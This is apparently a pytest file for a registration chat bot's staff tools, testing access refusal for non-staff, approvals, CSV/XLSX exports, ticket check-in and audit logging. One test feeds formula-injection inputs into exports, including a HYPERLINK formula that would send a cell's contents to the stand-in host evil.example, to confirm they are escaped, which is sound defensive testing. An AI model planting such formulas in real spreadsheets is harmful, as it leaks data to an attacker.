"""Staff tools: only staff reach them; approvals, exports and check-in work and are audited."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import select

from bot.app import App
from bot.db.models import AuditEntry, OutboxMessage, Registration
from bot.services.exports import FORMULA_STARTS
from handlers.check_in import CHECK_IN
from handlers.staff import CSV, DECIDE, MENU, OFFERING, PENDING, XLSX
from tests.chat import Chat
from tests.handlers.test_registration import fill_tour

REFUSAL = "Sorry, this is only for HAUFO staff."
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
"""A formula that would send the neighbouring cell to a stranger's server when clicked."""


async def register_advanced(chat: Chat) -> None:
    await chat.press_payload("register:vietnamese-advanced")
    for answer in ["Jean Dupont", "Ambassade de France", "Attaché", "French", "jean@diplomatie.gouv.fr"]:
        await chat.send(answer)
    for button in ["Skip", "Fluent", "I agree", "Confirm"]:
        await chat.press(button)


async def test_no_staff_action_is_reachable_by_others(app: App) -> None:
    visitor = Chat(app.dispatcher, user_id="visitor")
    await fill_tour(visitor, "spring-2027-co-loa", "Visitor One")
    await register_advanced(Chat(app.dispatcher, user_id="diplomat"))
    async with app.sessions() as session:
        registrations = (await session.scalars(select(Registration))).all()
    tour_ticket = next(r.ticket_code for r in registrations if r.ticket_code)
    pending = next(r.id for r in registrations if r.status == "pending")
    actions = [
        MENU, f"{OFFERING}:spring-2027-co-loa", f"{PENDING}:vietnamese-advanced", f"{DECIDE}:{pending}:yes",
        f"{DECIDE}:{pending}:no", f"{CSV}:spring-2027-co-loa", f"{XLSX}:spring-2027-co-loa",
    ]  # fmt: skip
    for payload in actions:
        await visitor.press_payload(payload)
        assert visitor.text == REFUSAL, payload
        assert visitor.last[0].attachment is None
    await visitor.send("/staff")
    assert visitor.text == REFUSAL
    for attempt in [f"/{CHECK_IN} {tour_ticket}", f"/start checkin-{tour_ticket}"]:
        await visitor.send(attempt)
        assert "Only staff can check it in" in visitor.text
    async with app.sessions() as session:
        assert (await session.scalars(select(AuditEntry))).all() == []
        after = {r.id: (r.status, r.checked_in_at) for r in (await session.scalars(select(Registration))).all()}
    assert after == {r.id: (r.status, r.checked_in_at) for r in registrations}


async def test_staff_approve_export_and_check_in(app: App) -> None:
    diplomat = Chat(app.dispatcher, user_id="diplomat")
    await register_advanced(diplomat)
    visitor = Chat(app.dispatcher, user_id="visitor")
    await fill_tour(visitor, "spring-2027-co-loa", "Nguyễn Thị Lan", guests=1)

    admin = Chat(app.dispatcher, user_id="admin")  # ADMINS=test:admin in the test settings
    await admin.send("/staff")
    await admin.press("Advanced")
    assert "⏳ waiting for staff approval: 1" in admin.text
    await admin.press("Approvals")
    assert "Jean Dupont" in admin.text
    await admin.press("Approve")
    assert "is now ✅ confirmed" in admin.text
    await admin.press_payload(f"{PENDING}:vietnamese-advanced")
    assert "Nobody is waiting for approval." in admin.text

    await admin.press_payload(f"{CSV}:spring-2027-co-loa")
    document = admin.last[0].attachment
    assert document is not None
    table = list(csv.reader(io.StringIO(document.content.decode("utf-8-sig"))))
    assert table[1][3] == "Nguyễn Thị Lan"
    assert table[1][4] == "Guest A"
    await admin.press_payload(f"{XLSX}:spring-2027-co-loa")
    workbook = admin.last[0].attachment
    assert workbook is not None
    sheet = load_workbook(io.BytesIO(workbook.content)).active
    assert sheet is not None
    assert sheet["D2"].value == "Nguyễn Thị Lan"

    async with app.sessions() as session:
        ticket = (await session.scalars(select(Registration).where(Registration.seats == 2))).one().ticket_code
    await admin.send(f"/start checkin-{ticket}")
    assert "Checked in: Nguyễn Thị Lan, 2 seats" in admin.text
    await admin.send(f"/start checkin-{ticket}")
    assert "was already checked in at" in admin.text
    await admin.send("/checkin not-a-real-code")
    assert "not valid" in admin.text

    async with app.sessions() as session:
        audit = [(a.action, a.target) for a in (await session.scalars(select(AuditEntry).order_by(AuditEntry.id)))]
        outbox = (await session.scalars(select(OutboxMessage).order_by(OutboxMessage.id))).all()
        notices = [m.template for m in outbox if m.template != "reminder"]
    assert [action for action, _ in audit] == ["approve", "export-csv", "export-xlsx", "check-in"]
    assert notices == ["approved"]


async def test_exports_never_turn_what_strangers_typed_into_formulas(app: App) -> None:
    attacker = Chat(app.dispatcher, user_id="attacker")
    await attacker.press_payload("register:vietnamese-advanced")
    for answer in ["-Jean Dupont", HYPERLINK, "+SUM(1,2)", "@cmd", "attacker@example.org"]:
        await attacker.send(answer)
    for button in ["Skip", "Fluent", "I agree", "Confirm"]:
        await attacker.press(button)
    admin = Chat(app.dispatcher, user_id="admin")
    await admin.send("/staff")

    await admin.press_payload(f"{CSV}:vietnamese-advanced")
    document = admin.last[0].attachment
    assert document is not None
    [header, row] = list(csv.reader(io.StringIO(document.content.decode("utf-8-sig"))))
    cells = dict(zip(header, row, strict=True))
    assert cells["organisation"] == "'" + HYPERLINK
    assert (cells["name"], cells["position"], cells["nationality"]) == ("'-Jean Dupont", "'+SUM(1,2)", "'@cmd")
    assert not any(cell.startswith(FORMULA_STARTS) for cell in row)

    await admin.press_payload(f"{XLSX}:vietnamese-advanced")
    workbook = admin.last[0].attachment
    assert workbook is not None
    sheet = load_workbook(io.BytesIO(workbook.content)).active
    assert sheet is not None
    typed = {sheet.cell(1, column).value: sheet.cell(2, column) for column in range(1, sheet.max_column + 1)}
    assert typed["organisation"].value == HYPERLINK, "shown as typed"
    for name in ("name", "organisation", "position", "nationality"):
        assert (typed[name].data_type, typed[name].quotePrefix) == ("s", True), name
    assert (typed["email"].data_type, typed["email"].quotePrefix) == ("s", False)
